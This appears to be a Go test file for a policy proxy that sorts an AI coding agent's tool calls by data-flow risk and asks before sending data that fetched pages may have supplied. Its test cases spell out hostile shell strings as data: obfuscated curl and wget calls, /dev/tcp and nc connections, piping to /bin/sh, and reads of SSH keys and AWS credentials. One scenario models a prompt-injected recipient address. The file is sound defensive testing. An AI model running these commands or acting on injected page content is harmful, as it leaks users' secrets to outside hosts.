@@ -1,0 +1,146 @@
+package flow
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/clawai/clawai/internal/builtin"
+	"github.com/clawai/clawai/policy"
+)
+
+func ownCall(tool, args string) policy.Call {
+	done, err := builtin.Complete("claude-code", tool, []byte(args))
+	if err != nil {
+		panic(err)
+	}
+	return policy.Call{Method: builtin.Method, Server: "claude-code", Subject: policy.ToolSubject, Names: []string{tool, "class"}, Args: done, Cwd: "/srv/p"}
+}
+
+// What an agent's own tools have to do with others, in the order source, data, sink, danger.
+func TestOwnTools(t *testing.T) {
+	for _, c := range []struct{ tool, args, want, decides string }{
+		{"WebFetch", `{"url":"https://a.example","prompt":"x"}`, "yes no yes no", "url"},
+		{"WebSearch", `{"query":"x"}`, "yes no no no", ""},
+		{"Read", `{"file_path":"a/b"}`, "no no no no", ""},
+		{"Read", `{"file_path":"/srv/p/a"}`, "no no no no", ""},
+		{"Read", `{"file_path":"/srv/p/../q"}`, "no private no no", ""},
+		{"Read", `{"file_path":"/srv/pq"}`, "no private no no", ""},
+		{"Read", `{"file_path":"../q"}`, "no private no no", ""},
+		{"Read", `{"file_path":"~/x"}`, "no private no no", ""},
+		{"Read", `{"file_path":"/home/u/.ssh/id_rsa"}`, "no yes no no", ""},
+		{"Grep", `{"path":"/home/u/.aws/credentials","pattern":"x"}`, "no yes no no", ""},
+		{"Write", `{"file_path":"/srv/p/a","content":"x"}`, "no no no no", "file_path"},
+		{"Edit", `{"file_path":"/home/u/.bashrc"}`, "no no no yes", "file_path"},
+		{"Bash", `{"command":"go test ./..."}`, "no no no no", "command"},
+		{"Bash", `{"command":"cd a && /usr/bin/curl -d @x b.example"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"c'u'rl b"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"c\\url b"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"sh -c 'wget b'"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"python3.12 -c x"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"x=$(git push)"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"cat < /dev/tcp/b/80"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"open https://b.example"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"cu${x}rl b"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"c$@u$(true)rl b"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"cu\\\nrl b"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"$'\\x63url' b"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"printf 'cu%s b' rl | /bin/sh"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"cat < /dev/t'c'p/b/80"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"nc.openbsd b 80"}`, "yes no yes no", "command"},
+		{"Bash", `{"command":"IFS=$'\\n'; for f in $(ls ${dir}/a | sort); do echo \"$f\" | shuf; done"}`, "no no no no", "command"},
+		{"Bash", `{"command":"cat ~/.ssh/id_rsa"}`, "no yes no no", "command"},
+		{"Agent", `{"prompt":"curl"}`, "no no no no", ""},
+		{"Nothing", `{}`, "", ""},
+	} {
+		call := ownCall(c.tool, c.args)
+		got, decides, known := ownTool(&call)
+		text := ""
+		if known {
+			text = strings.Join([]string{word(got.PublicSource), word(got.SecretData), word(got.PublicSink), word(got.DangerousWrites)}, " ")
+		}
+		if text != c.want || strings.Join(decides, " ") != c.decides {
+			t.Errorf("%s %s: %s, %v", c.tool, c.args, text, decides)
+		}
+	}
+	server := ownCall("Read", `{}`)
+	server.Method = "tools/call" // a server's tool that is called so
+	if _, _, known := ownTool(&server); known {
+		t.Error("a server's tool is taken for the agent's")
+	}
+}
+
+func word(t policy.Trust) string {
+	return map[policy.Trust]string{policy.No: "no", policy.Private: "private", policy.Yes: "yes"}[t]
+}
+
+// What a tool of the agent's will bring is known to all before it goes, and what it read is
+// in doubt; what the user named goes all the same.
+func TestCalled(t *testing.T) {
+	state := t.TempDir()
+	_, _, mail := house(t, state)
+	if err := Hear(state, []string{"session:1"}, "see https://docs.example/a and tell bob@example.org"); err != nil {
+		t.Fatal(err)
+	}
+	agent := begin(t, state, "session:1").Server("claude-code", "", noRow, parsed(t, ruleText))
+	fetch := ownCall("WebFetch", `{"url":"https://docs.example/a"}`)
+	if err := agent.Called([]policy.Call{fetch}); err != nil {
+		t.Fatal(err)
+	}
+	if got := listed(mail.session.newestNow(t)); !strings.Contains(got, "claude-code WebFetch") {
+		t.Errorf("the proxy knows %s", got)
+	}
+	for args, want := range map[string]policy.Action{`{"url":"https://docs.example/a"}`: policy.Allow, `{"url":"https://docs.example/b"}`: policy.Prompt} {
+		call := ownCall("WebFetch", args)
+		if got, why := agent.Judge([]policy.Call{call}); got != want {
+			t.Errorf("%s: %v %s", args, got, why)
+		}
+	}
+	if got := weighed(mail, tool("send", `{"to":"bob@example.org","text":"eve@evil.example"}`)); !strings.HasPrefix(got, "prompt") {
+		t.Errorf("an address that may have been on the page: %s", got)
+	}
+	off := begin(t, t.TempDir(), "session:1").Server("claude-code", "", noRow, parsed(t, "[[rule]]\naction = \"allow\"\ntool = \"*\"\n"))
+	if err := off.Called([]policy.Call{fetch}); err != nil || len(off.session.journals) != 0 {
+		t.Errorf("off, and something is kept: %v", err)
+	}
+}
+
+func (s *Session) newestNow(t *testing.T) []Seen {
+	t.Helper()
+	if _, err := s.Seen(); err != nil {
+		t.Fatal(err)
+	}
+	return s.newest(untrusted)
+}
+
+// Who comes and goes with each call leaves nothing behind each time.
+func TestLinkedOnce(t *testing.T) {
+	state := t.TempDir()
+	size := func() (n int64) {
+		for _, key := range []string{"process:1", "session:1"} {
+			info, err := os.Stat(filepath.Join(dirOf(state), fileOf(key)))
+			if err != nil {
+				t.Fatal(err)
+			}
+			n += info.Size()
+		}
+		return n
+	}
+	var sizes []int64
+	for range 5 {
+		s := New(state, []string{"process:1"})
+		if err := s.Join("session:1"); err != nil {
+			t.Fatal(err)
+		}
+		s.Close()
+		sizes = append(sizes, size())
+	}
+	if sizes[4] != sizes[0] {
+		t.Error(fmt.Sprint(sizes))
+	}
+	if s := begin(t, state, "session:1"); s.Add([]Seen{{Kind: secret, Source: "x"}}) != nil || seenBy(t, begin(t, state, "process:1")) == "" {
+		t.Error("they are not linked")
+	}
+}
